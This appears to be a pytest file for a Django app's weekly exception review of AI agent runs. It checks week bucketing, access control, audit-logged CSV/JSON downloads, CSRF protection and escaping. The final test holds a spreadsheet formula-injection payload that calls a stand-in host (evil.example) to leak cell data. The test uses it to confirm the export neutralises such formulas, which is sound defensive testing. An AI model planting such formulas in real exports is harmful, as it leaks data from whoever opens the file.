"""The weekly exception review (agents.review): real runs through the gateway — failed
runs and steps, steps denied by policy or refused for their arguments, held payouts
rejected or left to expire — kill switches engaged and an alert in the trail. The groups
and counts are the ones the test built; items fall in their ISO week by the UTC clock
(Sunday 23:59:59 is the week before Monday 00:00); every link opens the decision chain;
the download is the page's rows; only the team's supervisors and compliance see it."""

from __future__ import annotations

import csv
import html
import io
import json
import re
from datetime import UTC, datetime, timedelta
from typing import Any
from urllib.parse import parse_qsl

import pytest
from django.contrib.auth import get_user_model
from django.db import connection, transaction
from django.test import Client
from django.test.utils import CaptureQueriesContext
from django.utils import timezone

from agents import review, roles
from agents.models import Run
from agents.runtime import execute_run
from agents.services import killswitch_engage, killswitch_release, run_start
from approvals.models import ApprovalRequest
from approvals.services import approval_decide, approvals_expire
from audit.models import AuditEvent
from audit.services import SYSTEM, audit_append, event_content
from audit.verbs import Verb

pytestmark = pytest.mark.django_db

POLICY = {
    "rules": [
        {
            "tool": "test.pay",
            "when": "amount > 50000",
            "effect": "deny",
            "reason": "over the hard limit",
        },
        {"tool": "test.pay", "effect": "approve", "approvals": 1},
        {"tool": "test.count", "effect": "allow"},
        {"tool": "test.refuse", "effect": "allow"},
    ]
}


def rogue(agent: Any, n: int) -> Run:
    """A run that tries a payout over the limit (denied by rule 1), a tool no rule names
    (denied by default), a payout with arguments the schema refuses, and a call its
    system refuses (a failed step). The program carries on after each: the run succeeds."""
    calls = [
        ["test.pay", {"claim_id": f"c-{n}", "amount": 90000 + n}],
        ["test.held", {"label": f"h-{n}"}],
        ["test.pay", {"claim_id": f"c-{n}"}],
        ["test.refuse", {"label": f"{n}"}],
    ]
    run = run_start(agent=agent, input={"calls": calls})
    execute_run(run.pk)
    return run


def payout(agent: Any, amount: int) -> ApprovalRequest:
    run = run_start(agent=agent, input={"claim_id": f"p-{amount}", "amount": amount})
    execute_run(run.pk)
    return ApprovalRequest.objects.get(run=run)


def failing(agent: Any) -> Run:
    run = run_start(agent=agent, input={})  # no label: the program fails with a KeyError
    execute_run(run.pk)
    run.refresh_from_db()
    assert run.status == Run.Status.FAILED
    return run


def alert(agent: Any, when: datetime | None = None, verb: str = "alert.fired") -> None:
    """An alert as the alert rules will write one: a verb under `alert.` (none is in the
    vocabulary yet, so its content is written directly), naming its rule."""
    content = event_content(
        verb=Verb.RUN_FAILED,
        actor=SYSTEM,
        subject_type="alert_rule",
        subject_id=7,
        agent_id=agent.pk,
        team_id=agent.team_id,
        payload={
            "rule": 7,
            "rule_name": "exceptions over 20%",
            "summary": "exceptions over 20%: exception rate = 40 % (threshold 20 %)",
        },
        occurred_at=when,
    )
    content["verb"] = verb
    with transaction.atomic():
        audit_append(content)


@pytest.fixture
def built(world: Any, make_agent: Any) -> dict[str, Any]:
    now = timezone.now()
    week = review.week_of(now)
    rogue_agent = make_agent("review-rogue", "tests.support.agents.rogue", POLICY)
    payer = make_agent("review-payer", "tests.support.agents.payout_with_fallback", POLICY)
    counter = make_agent("review-counter", "tests.support.agents.counter", POLICY)
    other = make_agent("review-other", "tests.support.agents.counter", POLICY, team=world.support)
    runs = [rogue(rogue_agent, 1), rogue(rogue_agent, 2)]
    sam = world.supervisor
    for amount, reason in ((500, "duplicate claim 123"), (600, "duplicate claim 456"),
                           (700, "amount looks wrong")):  # fmt: skip
        request = payout(payer, amount)
        approval_decide(
            request_id=request.pk,
            user=sam,
            verdict="reject",
            seen_args_hash=request.args_hash,
            comment=reason,
        )
    expiring = payout(payer, 800)
    ApprovalRequest.objects.filter(pk=expiring.pk).update(due_at=now - timedelta(minutes=1))
    assert approvals_expire() == 1
    # Failed runs: one moved to the last second of the week before, one to the first of
    # this week, one as it happened; and one in another team.
    sunday, monday, today = failing(counter), failing(counter), failing(counter)
    Run.objects.filter(pk=sunday.pk).update(finished_at=week.start - timedelta(seconds=1))
    Run.objects.filter(pk=monday.pk).update(finished_at=week.start)
    failing(other)
    # Switches: the team's, the global one (both stop its agents), another team's.
    for kwargs in (
        {"scope": "team", "team": world.claims, "reason": "fraud spike on claim 991"},
        {"scope": "global", "reason": "fraud spike on claim 992"},
        {"scope": "team", "team": world.support, "reason": "support only"},
    ):
        switch = killswitch_engage(mode="pause", user=None, **kwargs)
        killswitch_release(switch=switch, user=None, reason="checked")
    alert(counter)
    alert(counter, verb="alert.resolved")  # an alert that cleared is not listed
    alert(other)
    return {
        "week": week,
        "runs": runs,
        "sunday": sunday,
        "monday": monday,
        "today": today,
        "agents": (rogue_agent, payer, counter),
    }


# The groups the history above makes this week: (kind, cause) -> count.
EXPECTED = {
    (review.FAILED_RUN, "KeyError: 'label'"): 2,
    (review.FAILED_STEP, "ValueError: the upstream refused claim N"): 2,
    (review.DENIED, "rule N (test.pay when amount > N): over the hard limit"): 2,
    (review.DENIED, "invalid arguments"): 2,
    (review.REJECTED, "duplicate claim N"): 2,
    (review.REJECTED, "amount looks wrong"): 1,
    (review.EXPIRED, "test.pay: nobody in the agent's supervisors decided in time"): 1,
    (review.SWITCH, "fraud spike on claim N"): 2,
    (review.ALERT, "alert.fired: exceptions over 20%"): 1,
}


def groups_of(r: review.Review) -> dict[tuple[str, str], int]:
    return {(s.kind, g.cause): len(g.items) for s in r.sections for g in s.groups}


def test_the_week_groups_and_counts_what_happened(built: dict[str, Any], world: Any) -> None:
    got = groups_of(review.review(world.claims, built["week"]))
    default_deny = [c for k, c in got if k == review.DENIED and c.startswith("no rule matched")]
    assert default_deny == ["no rule matched: denied by default"]
    assert got.pop((review.DENIED, default_deny[0])) == 2
    assert got == EXPECTED


def test_an_item_at_sunday_235959_belongs_to_the_week_before_monday_0000(
    built: dict[str, Any], world: Any
) -> None:
    week = built["week"]
    this = review.review(world.claims, week)
    before = review.review(world.claims, week.previous)
    failed_now = {i.run_id for i in this.items if i.kind == review.FAILED_RUN}
    failed_before = {i.run_id for i in before.items if i.kind == review.FAILED_RUN}
    assert failed_now == {built["monday"].pk, built["today"].pk}
    assert failed_before == {built["sunday"].pk}
    assert before.count == 1
    # The trail's items by their own time: an alert at the week's last microsecond is the
    # week's, one at the next Monday 00:00 is the next week's.
    counter = built["agents"][2]
    alert(counter, week.start - timedelta(microseconds=1))
    alert(counter, week.start)
    assert (
        groups_of(review.review(world.claims, week.previous))[
            (review.ALERT, "alert.fired: exceptions over 20%")
        ]
        == 1
    )
    assert (
        groups_of(review.review(world.claims, week))[
            (review.ALERT, "alert.fired: exceptions over 20%")
        ]
        == 2
    )


def test_weeks_are_iso_weeks_in_utc() -> None:
    week = review.week_named("2026-W01", datetime(2026, 6, 1, tzinfo=UTC))
    assert week.start == datetime(2025, 12, 29, tzinfo=UTC)
    assert week.end == datetime(2026, 1, 5, tzinfo=UTC)
    tuesday = datetime(2026, 12, 1, 6, 0, tzinfo=UTC)
    assert review.current_week(tuesday).name == "2026-W49"
    assert review.last_complete_week(tuesday).name == "2026-W48"
    assert review.week_of(datetime(2026, 11, 29, 23, 59, 59, tzinfo=UTC)).name == "2026-W48"
    assert review.week_of(datetime(2026, 11, 30, 0, 0, tzinfo=UTC)).name == "2026-W49"
    assert review.week_named("2020-W53", tuesday).name == "2020-W53"  # 2020 had 53
    for bad in ("2026-W54", "2025-W53", "2026-W00", "2026-48", "W48", "2026-W4", "", "x"):
        with pytest.raises(ValueError, match="YYYY-Www"):
            review.week_named(bad, tuesday)
    with pytest.raises(ValueError, match="has not begun"):
        review.week_named("2026-W50", tuesday)


def test_cause_writes_numbers_as_n_and_keeps_the_first_line() -> None:
    assert review.cause_of("run 12 diverged at step 3: the journal holds…") == (
        "run N diverged at step N: the journal holds…"
    )
    assert review.cause_of("boom\ntraceback") == "boom"
    assert review.cause_of("") == "(no reason given)"
    assert len(review.cause_of("x" * 500)) == review.CAUSE_LENGTH


def _client(user: Any) -> Client:
    client = Client()
    client.force_login(user)
    return client


def page_rows(text: str) -> list[tuple[str, str, str]]:
    """(kind, cause, link) of every item on the page, in its order."""
    rows = []
    for part in text.split('<section data-testid="review-')[1:]:
        kind = part.split('"', 1)[0].replace("-", " ")
        for group in part.split('<details class="review-group"')[1:]:
            found = re.search(r'data-testid="group-cause">([^<]*)<', group)
            assert found is not None
            cause = html.unescape(found[1])
            for item in group.split('data-testid="review-item"')[1:]:
                link = re.search(r'<a href="([^"]+)"', item)
                assert link is not None
                rows.append((kind, cause, html.unescape(link[1])))
    return rows


def test_the_page_lists_every_item_and_each_links_to_its_decision_chain(
    built: dict[str, Any], world: Any
) -> None:
    week = built["week"].name
    client = _client(world.compliance)
    response = client.get(f"/teams/claims/review/?week={week}")
    assert response.status_code == 200
    text = response.content.decode()
    rows = page_rows(text)
    assert len(rows) == sum(EXPECTED.values()) + 2  # and the default denials
    kinds = {(k, c) for k, c, _ in rows}
    assert (review.FAILED_RUN, "KeyError: 'label'") in kinds
    for _, _, link in rows:
        assert link.startswith(("/audit/runs/", "/audit/events/")), link
        assert client.get(link).status_code == 200, link
    # The team's supervisor opens the same chains.
    lead = _client(world.supervisor)
    assert all(lead.get(link).status_code == 200 for _, _, link in rows)
    # A rejection's link is the chain of the very step that was held.
    rejected = [link for k, _, link in rows if k == review.REJECTED]
    chain = client.get(rejected[0]).content.decode()
    assert "duplicate claim" in chain or "amount looks wrong" in chain
    assert " style=" not in text


def test_the_download_is_the_pages_rows(built: dict[str, Any], world: Any) -> None:
    week = built["week"].name
    client = _client(world.supervisor)
    rows = page_rows(client.get(f"/teams/claims/review/?week={week}").content.decode())
    before = AuditEvent.objects.count()
    response = client.post("/teams/claims/review/download", {"week": week, "format": "csv"})
    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert response["Content-Disposition"] == (
        f'attachment; filename="baton-review-claims-{week}.csv"'
    )
    parsed = list(csv.DictReader(io.StringIO(response.content.decode())))
    assert list(parsed[0]) == review.COLUMNS
    assert [
        (r["kind"], r["cause"], r["link"].removeprefix("http://testserver")) for r in parsed
    ] == rows
    assert {r["week"] for r in parsed} == {week}
    assert all(r["link"].startswith("http://testserver/audit/") for r in parsed)
    # Taking the report is itself evidence: who took which team's week, as what.
    [taken] = AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED)
    assert AuditEvent.objects.count() == before + 1
    assert (taken.actor_type, taken.actor_label, taken.team_id, taken.subject_id) == (
        "user",
        "sam",
        world.claims.pk,
        str(world.claims.pk),
    )
    assert taken.payload == {"team": "claims", "week": week, "format": "csv", "rows": len(rows)}
    as_json = client.post("/teams/claims/review/download", {"week": week, "format": "json"})
    assert as_json["Content-Disposition"].endswith(f'-{week}.json"')
    body = json.loads(as_json.content)
    assert body["week"] == week
    assert [{k: str(v) for k, v in r.items()} for r in body["rows"]] == parsed
    assert AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).count() == 2


def test_the_default_is_the_last_complete_week(built: dict[str, Any], world: Any) -> None:
    text = _client(world.supervisor).get("/teams/claims/review/").content.decode()
    last = built["week"].previous.name
    assert f'value="{last}"' in text
    assert [(k, c) for k, c, _ in page_rows(text)] == [(review.FAILED_RUN, "KeyError: 'label'")]
    assert f"?week={built['week'].name}" in text  # this week so far, one click away


@pytest.mark.parametrize(
    ("query", "message"),
    [
        ("week=2026-48", review.BAD_WEEK),
        ("week=2026-W54", review.BAD_WEEK),
        ("week=2999-W01", "has not begun"),
        # Week 1 of year 1 has no week before it a date can hold (the page links it).
        ("week=0001-W01", review.EARLY_WEEK),
        ("week=1969-W52", review.EARLY_WEEK),
        # ISO weeks are written in ASCII digits, not in others Python reads as numbers.
        ("week=%EF%BC%92%EF%BC%90%EF%BC%92%EF%BC%96-W01", review.BAD_WEEK),
        ("week=2026-W01&format=xml", "csv or json"),
    ],
)
def test_a_bad_week_or_format_answers_400_with_the_reason(
    built: dict[str, Any], world: Any, query: str, message: str
) -> None:
    client = _client(world.supervisor)
    download = client.post("/teams/claims/review/download", dict(parse_qsl(query)))
    assert download.status_code == 400
    assert message in download.content.decode()
    assert "Content-Disposition" not in download
    assert not AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).exists()
    if "format" not in query:
        page = client.get(f"/teams/claims/review/?{query}")
        assert page.status_code == 400
        assert html.escape(message) in page.content.decode() or message in page.content.decode()


def test_only_the_teams_supervisors_and_compliance_see_it(
    built: dict[str, Any], world: Any
) -> None:
    agent_lead = get_user_model().objects.create_user("agent-lead")
    roles.role_grant(user=agent_lead, role=roles.SUPERVISOR, target=built["agents"][0])
    for url, method, other in (
        ("/teams/claims/review/", "get", "post"),
        ("/teams/claims/review/download", "post", "get"),
    ):

        def ask(client: Client, url: str = url, method: str = method) -> int:
            return int(getattr(client, method)(url).status_code)

        assert ask(_client(world.supervisor)) == 200
        assert ask(_client(world.compliance)) == 200
        assert ask(_client(world.admin)) == 403
        assert ask(_client(agent_lead)) == 403
        assert ask(_client(world.support_supervisor)) == 404
        assert ask(_client(world.outsider)) == 404
        assert ask(Client()) == 302
        assert getattr(_client(world.supervisor), other)(url).status_code == 405
    # Only the two allowed downloads were recorded; the refused ones wrote nothing.
    assert AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).count() == 2
    # The support team's supervisor reads their own team's week, not the claims items.
    theirs = _client(world.support_supervisor).get(
        f"/teams/support/review/?week={built['week'].name}"
    )
    assert theirs.status_code == 200
    text = theirs.content.decode()
    assert "support only" in text and "fraud spike" in text  # the global switch too
    assert "duplicate claim" not in text and "review-rogue" not in text
    team_page = _client(world.supervisor).get("/teams/claims/").content.decode()
    assert 'href="/teams/claims/review/"' in team_page
    assert (
        'href="/teams/claims/review/"'
        not in _client(world.admin).get("/teams/claims/").content.decode()
    )


def test_the_page_and_download_cost_the_same_queries_for_few_items_as_for_many(
    built: dict[str, Any], world: Any
) -> None:
    week = built["week"].name
    client = _client(world.compliance)
    urls = [f"/teams/claims/review/?week={week}", "/teams/claims/review/download"]
    rogue_agent, _, counter = built["agents"]
    counts: list[list[int]] = []
    for more in (0, 3):
        for n in range(more):
            rogue(rogue_agent, 10 + n)
            failing(counter)
            alert(counter)
        row = []
        for url in urls:

            def ask(url: str = url) -> int:
                if url.endswith("download"):
                    return int(client.post(url, {"week": week}).status_code)
                return int(client.get(url).status_code)

            assert ask() == 200
            with CaptureQueriesContext(connection) as queries:
                assert ask() == 200
            row.append(len(queries))
        counts.append(row)
    assert counts[0] == counts[1], counts
    assert AuditEvent.objects.filter(verb="alert.fired").count() == 5


def test_the_download_needs_its_csrf_token_as_the_audit_export_does(
    built: dict[str, Any], world: Any
) -> None:
    # Taking the report writes to the trail: another site must not make a lead take one.
    week = built["week"].name
    forged = Client(enforce_csrf_checks=True)
    forged.force_login(world.supervisor)
    response = forged.post("/teams/claims/review/download", {"week": week, "format": "csv"})
    assert response.status_code == 403
    assert not AuditEvent.objects.filter(verb=Verb.REVIEW_EXPORTED).exists()
    # The page's own form carries the token, the week shown and a button per format.
    page = forged.get(f"/teams/claims/review/?week={week}").content.decode()
    form = page.split('data-testid="review-download"', 1)[1].split("</form>", 1)[0]
    token = re.search(r'name="csrfmiddlewaretoken" value="([^"]+)"', form)
    assert token is not None
    assert f'name="week" value="{week}"' in form
    assert 'name="format" value="csv"' in form and 'name="format" value="json"' in form
    response = forged.post(
        "/teams/claims/review/download",
        {"week": week, "format": "json", "csrfmiddlewaretoken": token[1]},
    )
    assert response.status_code == 200
    assert AuditEvent.objects.get(verb=Verb.REVIEW_EXPORTED).payload["format"] == "json"


def test_a_reason_written_as_a_formula_is_text_in_the_csv(
    built: dict[str, Any], world: Any
) -> None:
    # A rejecter's reason (or an upstream's error) must not run in the spreadsheet of the
    # person who opens the report; the JSON keeps the text as it was given.
    formula = '=HYPERLINK("http://evil.example/?leak=" & A2, "open")'
    request = payout(built["agents"][1], 900)
    approval_decide(
        request_id=request.pk,
        user=world.supervisor,
        verdict="reject",
        seen_args_hash=request.args_hash,
        comment=formula,
    )
    client = _client(world.compliance)
    week = built["week"].name
    text = client.post("/teams/claims/review/download", {"week": week}).content.decode()
    causes = [r["cause"] for r in csv.DictReader(io.StringIO(text))]
    expected = review.cause_of(formula)
    assert "'" + expected in causes and expected not in causes
    assert not any(c.startswith(("=", "+", "-", "@")) for c in causes)
    body = client.post("/teams/claims/review/download", {"week": week, "format": "json"})
    assert expected in [r["cause"] for r in json.loads(body.content)["rows"]]
